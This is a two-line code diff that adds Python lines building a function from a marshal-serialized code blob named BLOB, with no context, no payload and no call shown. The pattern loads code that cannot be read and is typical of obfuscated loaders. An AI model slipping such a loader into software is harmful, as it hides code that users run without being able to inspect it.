@@ -1,0 +1,2 @@
+import marshal, types
+f = types.FunctionType(marshal.loads(BLOB), globals())
